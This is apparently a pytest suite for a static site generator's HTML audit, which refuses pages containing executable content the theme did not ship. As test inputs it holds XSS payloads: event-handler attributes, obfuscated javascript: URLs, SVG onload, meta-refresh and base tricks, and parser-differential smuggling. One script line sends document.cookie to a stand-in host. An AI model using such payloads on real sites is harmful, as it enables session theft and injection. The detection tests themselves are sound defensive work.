"""The audit refuses pages with anything executable the templates did not put there."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator import build, cli
from generator.audit import _resolve, _target, audit, policy
from tests.conftest import TODAY, write_config
from tests.golden import FIXTURE

# Material's first inline script, as it writes it on a page two folders down.
THEME_SCRIPT = (
    '<script>__md_scope=new URL("..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+_.charCodeAt(0)),0),'
    '__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem(t.pathname+"."+e)),'
    '__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem(a.pathname+"."+e,JSON.stringify(_))}catch(e){}}</script>'
)


def findings(tmp_path: Path, body: str) -> list[str]:
    (tmp_path / "page.html").write_text(f"<!doctype html><html><head>{THEME_SCRIPT}</head><body>{body}</body></html>")
    found, _ = audit(tmp_path)
    return [f"{d.location.path}: {d.message}" for d in found]


@pytest.mark.parametrize(
    "body, message",
    [
        ("<p onclick=\"alert(1)\">x</p>", "page.html: 'onclick' attribute on <p>"),
        ("<svg onload=alert(1)></svg>", "page.html: 'onload' attribute on <svg>"),
        ('<a href="javascript:alert(1)">x</a>', 'page.html: href="javascript:alert(1)" on <a>'),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', 'page.html: href=" JaVaScRiPt:alert(1)" on <a>'),
        ('<a href="java\tscript:alert(1)">x</a>', 'page.html: href="java\tscript:alert(1)" on <a>'),
        ('<img src="data:image/svg+xml,<svg/onload=alert(1)>">', 'page.html: src="data:image/svg+xml,<svg/onload=alert(1)>" on <img>'),
        ('<iframe src="https://evil.example"></iframe>', "page.html: <iframe> element"),
        ("<object data=x></object>", "page.html: <object> element"),
        ("<embed src=x>", "page.html: <embed> element"),
        ('<base href="https://evil.example/">', "page.html: <base> element"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example">', 'page.html: <meta http-equiv="refresh">'),
        ("<script>alert(1)</script>", "page.html: an inline script the theme does not ship: 'alert(1)'"),
        # The start of one of the theme's scripts is not the theme's script.
        ('<script>var palette=__md_get("__palette");fetch("//evil.example/"+document.cookie)</script>',
         "page.html: an inline script the theme does not ship: 'var palette=__md_get(\"__palette\");fetch(\"//evil.example/\"+do'"),
        ('<script type="application/ld+json">{"a": </script>', "page.html: a application/ld+json block that does not parse"),
    ],
)
def test_findings(tmp_path: Path, body: str, message: str):
    assert findings(tmp_path, body) == [message]


def test_every_link_within_the_site_reaches_a_page_and_its_fragment(tmp_path: Path):
    """The audit follows the site's own links across the whole built site (no renderer process sees
    every page); links elsewhere, to files, and the 404 page's absolute links are not its business."""
    (tmp_path / "actors" / "a").mkdir(parents=True)
    (tmp_path / "actors" / "a" / "index.html").write_text('<h2 id="statements">Statements</h2>')
    (tmp_path / "feed.xml").write_text("<feed/>")
    (tmp_path / "404.html").write_text('<a href="/gone/">x</a>')
    body = (
        '<a href="actors/a/">ok</a><a href="actors/a/#statements">ok</a><a href="feed.xml">ok</a><a href="#here">ok</a>'
        '<a href="https://elsewhere.example/x/">ok</a><p id="here"></p>\n'
        '<a href="actors/b/">x</a> <a href="actors/a/#track-record">x</a> <a href="#nowhere">x</a>'
    )
    assert findings(tmp_path, body) == [
        "page.html: a link to 'actors/b/', which is no page or file of the site",
        "page.html: a link to 'actors/a/#track-record', whose page has no element with id 'track-record'",
        "page.html: a link to '#nowhere', whose page has no element with id 'nowhere'",
    ]


def test_clean_page_and_its_policy(tmp_path: Path):
    assert findings(tmp_path, '<a href="https://ok.example">x</a><script type="application/ld+json">{}</script>') == []
    _, hashes = audit(tmp_path)
    assert len(hashes) == 1 and hashes[0].startswith("'sha256-")
    assert policy(hashes).startswith(f"default-src 'self'; script-src 'self' 'wasm-unsafe-eval' {hashes[0]}; style-src 'self';")
    assert "object-src 'none'" in policy(hashes) and "base-uri 'none'" in policy(hashes)


def test_a_page_the_audit_refuses_is_never_published(tmp_path: Path, monkeypatch, capsys):
    """A theme override that slips an inline handler into every page fails the build; the site stays."""
    out = tmp_path / "site"
    config = write_config(tmp_path)
    assert build.build(FIXTURE, config, out, TODAY).site is not None
    before = sorted(p.read_bytes() for p in out.rglob("*.html"))
    theme = tmp_path / "theme"
    shutil.copytree(Path(build.__file__).parent.parent / "theme", theme)
    (theme / "main.html").write_text('{% extends "base.html" %}{% block extrahead %}<script>alert(1)</script>{% endblock %}')
    config.write_text(config.read_text().replace(str(Path(build.__file__).parent.parent / "theme"), str(theme)))
    with pytest.raises(build.RendererFailed) as failed:
        build.build(FIXTURE, config, out, TODAY)
    first = failed.value.diagnostics[0]
    assert (first.location.path, first.severity, first.rule) == ("404.html", "error", "audit")
    assert first.message == "an inline script the theme does not ship: 'alert(1)'"
    assert sorted(p.read_bytes() for p in out.rglob("*.html")) == before
    # The command line prints the findings in the format asked for: here as GitHub annotations.
    monkeypatch.chdir(tmp_path)
    code = cli.main(["build", "--content", str(FIXTURE), "--config", str(config), "--out", str(out), "--format", "github",
                     "--today", TODAY.isoformat()])
    printed = capsys.readouterr().err.splitlines()
    assert code == 1 and printed[0].startswith(f"::error file=404.html,line={first.location.line},col={first.location.column},title=audit::")
    assert printed[-1] == f"error: the site was not built; '{out}' was left as it was"


def test_a_finding_is_located_in_the_built_page(tmp_path: Path):
    (tmp_path / "page.html").write_text(f"<!doctype html>\n<html><head>{THEME_SCRIPT}</head>\n<body><p onclick=\"x\">x</p></body></html>")
    (found,), _ = audit(tmp_path)
    assert str(found) == "page.html:3:7: error: 'onclick' attribute on <p> [audit]"


def test_the_audit_reads_a_page_as_a_browser_does(tmp_path: Path):
    """A comment closed by `--!>` ends there in a browser (HTML5); Python's HTML parser of 3.11
    reads on to the next `-->` and would miss the handler. The audit parses as the browser does,
    and says so where it cannot locate the finding."""
    assert findings(tmp_path, "<p>a</p><!-- x --!><img src=x onerror=alert(1)><!-- -->")[0].startswith(
        "page.html: 'onerror' attribute on <img>")
    assert findings(tmp_path, "<template><img src=x onerror=alert(1)></template>") == ["page.html: 'onerror' attribute on <img>"]


@given(page=st.sampled_from(["index.html", "404.html", "a/index.html", "a/b/index.html", "a/b/c.html"]),
       href=st.text(alphabet="ab./-_#%?é:", max_size=16))
def test_a_link_is_followed_where_a_url_parser_would_follow_it(page: str, href: str):
    """The audit resolves plain relative links itself (ten times faster than urljoin); the
    result is urljoin's."""
    assert _target(page, href) == _resolve(page, href)


def test_noscript_is_read_as_browsers_with_and_without_javascript_read_it(tmp_path: Path):
    """With JavaScript a <noscript> holds text up to its end tag, so a quoted '</noscript>' ends it
    and what follows is markup; without JavaScript what it holds is markup. Both are audited."""
    smuggled = """<noscript><p title="</noscript><meta http-equiv=refresh content='0;url=elsewhere'>"></p></noscript>"""
    assert findings(tmp_path, smuggled) == ['page.html: <meta http-equiv="refresh"> (as a browser reads the page)']
    assert findings(tmp_path, '<noscript><meta http-equiv="refresh" content="0"><a href="gone/">x</a></noscript>') == [
        'page.html: <meta http-equiv="refresh">', "page.html: a link to 'gone/', which is no page or file of the site",
    ]


def test_an_escaped_dot_segment_never_leads_out_of_the_site(tmp_path: Path):
    """Browsers read `%2e%2e` as `..`, which stops at the site's root: the audit looks for the
    file there, not in the folders above the built site."""
    site = tmp_path / "site"
    site.mkdir()
    (tmp_path / "secret.html").write_text("<p>outside</p>")
    (site / "page.html").write_text(f'<!doctype html><html><head>{THEME_SCRIPT}</head><body><a href="%2e%2e/secret.html">x</a></body></html>')
    assert [d.message for d in audit(site)[0]] == ["a link to '%2e%2e/secret.html', which is no page or file of the site"]
